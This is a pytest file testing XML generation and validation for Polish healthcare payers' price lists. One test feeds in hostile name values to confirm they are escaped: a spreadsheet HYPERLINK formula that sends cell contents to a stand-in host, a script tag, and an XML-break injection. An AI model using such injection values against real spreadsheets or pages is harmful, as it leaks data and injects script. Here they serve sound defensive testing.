"""The XML document of the payers' price lists (PAY-6) built from plain data, and the counts its audit reports."""

import uuid
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from lxml import etree

from payers.pricelist_xml import (
    NAMESPACE,
    GroupCount,
    PriceListCounts,
    PriceListDataError,
    PriceListDocument,
    PriceListGroup,
    PriceListPayer,
    PriceListService,
    pricelist_document_counts,
    pricelist_document_xml,
)

CREATED_AT = datetime(2026, 12, 1, 8, 0, tzinfo=UTC)
DOCUMENT_ID = uuid.UUID("6f1c2d3e-4a5b-4c6d-8e7f-901a2b3c4d5e")
NS = {"p": NAMESPACE}


def _document(*payers: PriceListPayer) -> PriceListDocument:
    return PriceListDocument(id=DOCUMENT_ID, entity_id="PODMIOT-0042", created_at=CREATED_AT, payers=payers)


def _payer(payer_id: int, *groups: PriceListGroup, name="PZU Zdrowie") -> PriceListPayer:
    return PriceListPayer(id=payer_id, osoz_id=f"OSOZ-{payer_id}", nip="5260250995", name=name, groups=groups)


def _group(group_id: int, name: str, *services: PriceListService) -> PriceListGroup:
    return PriceListGroup(id=group_id, name=name, services=services)


def _service(service_id: int, name="Konsultacja dermatologiczna", price="150.00") -> PriceListService:
    return PriceListService(id=service_id, base_service_id=service_id + 1000, name=name, price=Decimal(price))


def _parsed(document: PriceListDocument) -> etree._Element:
    return etree.fromstring(pricelist_document_xml(document))


def test_the_document_holds_every_payer_group_and_service_in_order():
    document = _document(
        _payer(
            1,
            _group(10, "Konsultacje", _service(101), _service(102, "Konsultacja kardiologiczna", "220.00")),
            _group(20, "Badania", _service(201, "EKG", "60.00")),
        ),
        _payer(2, _group(10, "Konsultacje", _service(103, price="99.90")), name="Medicover"),
    )

    root = _parsed(document)

    assert root.tag == f"{{{NAMESPACE}}}PriceLists"
    assert dict(root.attrib) == {
        "Id": f"pricelists-{DOCUMENT_ID}",
        "entity_id": "PODMIOT-0042",
        "currency": "PLN",
        "created_at": "2026-12-01T09:00:00+01:00",  # Warsaw wall-clock time with its offset
    }
    assert [dict(payer.attrib) for payer in root.findall("p:Payer", NS)] == [
        {"id": "1", "osoz_id": "OSOZ-1", "nip": "5260250995", "name": "PZU Zdrowie"},
        {"id": "2", "osoz_id": "OSOZ-2", "nip": "5260250995", "name": "Medicover"},
    ]
    first = root.find("p:Payer", NS)
    assert [group.get("name") for group in first.findall("p:Group", NS)] == ["Konsultacje", "Badania"]
    assert [dict(service.attrib) for service in first.findall("p:Group/p:Service", NS)] == [
        {"id": "101", "base_service_id": "1101", "name": "Konsultacja dermatologiczna", "price": "150.00"},
        {"id": "102", "base_service_id": "1102", "name": "Konsultacja kardiologiczna", "price": "220.00"},
        {"id": "201", "base_service_id": "1201", "name": "EKG", "price": "60.00"},
    ]


def test_a_payer_without_nip_has_no_nip_attribute():
    payer = PriceListPayer(id=3, osoz_id="OSOZ-3", nip="", name="Luxmed", groups=())

    assert "nip" not in _parsed(_document(payer)).find("p:Payer", NS).attrib


@pytest.mark.parametrize(
    ("price", "written"),
    [("150", "150.00"), ("99.9", "99.90"), ("0", "0.00"), ("1234.5", "1234.50"), ("99999999.99", "99999999.99")],
)
def test_prices_are_written_with_two_decimals_and_a_point(price, written):
    root = _parsed(_document(_payer(1, _group(1, "Konsultacje", _service(1, price=price)))))

    assert root.find("p:Payer/p:Group/p:Service", NS).get("price") == written


@pytest.mark.parametrize(
    ("price", "problem"),
    [
        ("150.001", "Kwota może mieć najwyżej dwa miejsca po przecinku."),
        ("-1.00", "Kwota nie może być ujemna."),
        ("NaN", "Wpisz kwotę liczbą, np. 150 albo 149,99."),
        ("100000000.00", "Kwota może wynosić najwyżej 99\xa0999\xa0999,99\xa0zł."),
    ],
)
def test_a_price_that_is_not_a_two_decimal_amount_is_refused(price, problem):
    with pytest.raises(PriceListDataError) as refused:
        _service(7, "Konsultacja dermatologiczna", price)

    assert str(refused.value.message) == f"Cena usługi „Konsultacja dermatologiczna”: {problem}"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")',
        "+48 123 456 789",
        "-1+1",
        "@SUM(A1:A9)",
        "<script>alert('x')</script> & co",
        "Konsultacja \"VIP\" 'plus'",
        ']]><Service id="666"/>',
        "Zażółć gęślą jaźń — ½ ceny",
    ],
)
def test_hostile_names_are_escaped_and_read_back_unchanged(name):
    document = _document(_payer(1, _group(1, name, _service(1, name)), name=name))

    xml = pricelist_document_xml(document)
    root = etree.fromstring(xml)

    assert root.find("p:Payer", NS).get("name") == name
    assert root.find("p:Payer/p:Group", NS).get("name") == name
    assert root.find("p:Payer/p:Group/p:Service", NS).get("name") == name
    # Names live in attributes only: nothing a name holds becomes markup.
    assert len(root.findall(".//p:Service", NS)) == 1
    assert b"<script>" not in xml


@pytest.mark.parametrize("control", ["\x00", "\x07", "\x1b[31m", "\x7f", "\x85", "\ufffe", "\ud800"])
def test_names_with_control_characters_are_refused(control):
    with pytest.raises(PriceListDataError) as refused:
        _service(5, f"Konsultacja{control}")

    message = str(refused.value.message)
    assert message.startswith("Nazwa usługi „Konsultacja\ufffd")
    assert message.endswith(
        "” (Id 5) zawiera znaki sterujące, których nie można wysłać do OSOZ. Popraw ją i wyślij cenniki ponownie."
    )


@pytest.mark.parametrize(
    ("make", "unprintable", "empty"),
    [
        (
            lambda name: _group(8, name),
            "Nazwa grupy usług „Zły\ufffdwpis” (Id 8) zawiera znaki sterujące",
            "Grupa usług o Id 8 nie ma nazwy, więc nie można jej wysłać do OSOZ.",
        ),
        (
            lambda name: _payer(9, name=name),
            "Nazwa płatnika „Zły\ufffdwpis” (Id 9) zawiera znaki sterujące",
            "Płatnik o Id 9 nie ma nazwy, więc nie można go wysłać do OSOZ.",
        ),
        (
            lambda name: _service(4, name),
            "Nazwa usługi „Zły\ufffdwpis” (Id 4) zawiera znaki sterujące",
            "Usługa o Id 4 nie ma nazwy, więc nie można jej wysłać do OSOZ.",
        ),
    ],
    ids=["group", "payer", "service"],
)
def test_every_name_is_checked(make, unprintable, empty):
    with pytest.raises(PriceListDataError) as refused_unprintable:
        make("Zły\x00wpis")
    with pytest.raises(PriceListDataError) as refused_empty:
        make("  ")

    assert str(refused_unprintable.value.message).startswith(unprintable)
    assert str(refused_empty.value.message) == empty


def test_a_nip_with_control_characters_is_refused():
    with pytest.raises(PriceListDataError) as refused:
        PriceListPayer(id=1, osoz_id="OSOZ-1", nip="526\x00025", name="PZU", groups=())

    assert str(refused.value.message) == (
        "NIP „526\ufffd025” płatnika o Id 1 zawiera znaki sterujące, których nie można wysłać do OSOZ. Popraw go i "
        "wyślij cenniki ponownie."
    )


def test_a_document_needs_an_aware_creation_time_and_the_entity_id():
    with pytest.raises(ValueError, match="aware"):
        PriceListDocument(id=DOCUMENT_ID, entity_id="PODMIOT-0042", created_at=datetime(2026, 12, 1), payers=())
    with pytest.raises(ValueError, match="entity id"):
        PriceListDocument(id=DOCUMENT_ID, entity_id="", created_at=CREATED_AT, payers=())


def test_a_payer_without_an_osoz_id_is_a_bug_of_the_caller():
    with pytest.raises(ValueError, match="OSOZ id"):
        PriceListPayer(id=1, osoz_id="", nip="", name="Wpisany ręcznie", groups=())


def test_the_counts_are_every_service_and_the_breakdown_by_group():
    document = _document(
        _payer(1, _group(10, "Konsultacje", _service(101), _service(102)), _group(20, "Badania", _service(201))),
        _payer(2, _group(20, "Badania", _service(202), _service(203)), _group(30, "Zabiegi")),
        _payer(3, _group(10, "Konsultacje", _service(104))),
    )

    assert pricelist_document_counts(document) == PriceListCounts(
        total=6,
        groups=(GroupCount("Konsultacje", 3), GroupCount("Badania", 3), GroupCount("Zabiegi", 0)),
    )


def test_an_empty_document_counts_nothing():
    document = _document()

    assert pricelist_document_counts(document) == PriceListCounts(total=0, groups=())
    assert _parsed(document).findall("p:Payer", NS) == []
